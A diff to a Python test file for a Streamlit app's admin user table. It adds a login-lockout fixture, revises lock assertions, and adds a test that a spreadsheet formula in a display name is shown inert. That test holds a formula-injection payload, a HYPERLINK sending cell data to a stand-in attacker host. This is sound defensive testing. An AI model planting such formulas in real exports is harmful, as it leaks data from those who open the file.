@@ -13,6 +13,8 @@ import pytest
 from streamlit.testing.v1 import AppTest
 
 from core import clock, database
+from core import login as login_records
+from core.config import get_settings
 from tests.support import people
 from tests.support.people import stored
 from tests.support.router import browser, errors, go, login, page, signed_in
@@ -90,8 +92,19 @@ def test_disabling_then_enabling_a_user_lets_them_log_in_again(now: list[datetim
     assert page(login(browser(), "alice")) == "Chat"
 
 
+@pytest.fixture
+def untrusted_five(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
+    """Every AppTest browser comes from one (unknown) address: five failures lock that address
+    and, with this limit, the name for every browser that never signed in with it."""
+    monkeypatch.setenv("LOGIN_UNTRUSTED_MAX_FAILURES", "5")
+    get_settings.cache_clear()
+    yield
+    monkeypatch.undo()
+    get_settings.cache_clear()
+
+
 def test_unlocking_a_locked_user_lets_the_right_password_in_at_once(
-    now: list[datetime],
+    now: list[datetime], untrusted_five: None
 ) -> None:
     make_user("boss", "admin")
     make_user("alice")
@@ -101,11 +114,12 @@ def test_unlocking_a_locked_user_lets_the_right_password_in_at_once(
     assert errors(alice) == ["Too many failed logins: try again in 15 minutes."]
 
     at = manage(admin_page(), "alice")
-    assert table(at)["alice"]["status"] == "locked until 09:15 UTC"
+    assert table(at)["alice"]["status"] == "locked for new browsers until 09:15 UTC"
     at.button(key="admin_unlock").click().run()
     assert notices(at) == ["alice unlocked."]
     assert table(at)["alice"]["status"] == "active" and "admin_unlock" not in buttons(at)
-    assert (stored("alice").failed_logins, stored("alice").locked_until) == (0, None)
+    with database.session_scope() as session:
+        assert login_records.lock_of(session, name="alice") is None
     assert page(login(alice, "alice")) == "Chat"
 
 
@@ -158,3 +172,15 @@ def test_the_last_login_column_shows_each_users_last_login(now: list[datetime]) 
     assert rows["boss"]["last login"] == pd.Timestamp(T0 + timedelta(hours=2, minutes=35))
     assert pd.isna(rows["bob"]["last login"])  # never logged in
     assert stored("alice").last_login_at == T0 + timedelta(hours=2, minutes=30)
+
+
+def test_a_formula_in_a_name_is_inert_in_the_table_and_its_csv(now: list[datetime]) -> None:
+    """The table's toolbar downloads exactly what it shows as CSV: a display name or username
+    that a spreadsheet would run starts with an apostrophe there."""
+    make_user("boss", "admin")
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Invoice")'
+    with database.session_scope() as session:
+        people.make_user(session, "-attacker", display_name=formula)
+    shown = table(admin_page())
+    assert shown["'-attacker"]["display name"] == "'" + formula
+    assert shown["boss"]["display name"] == "Boss"
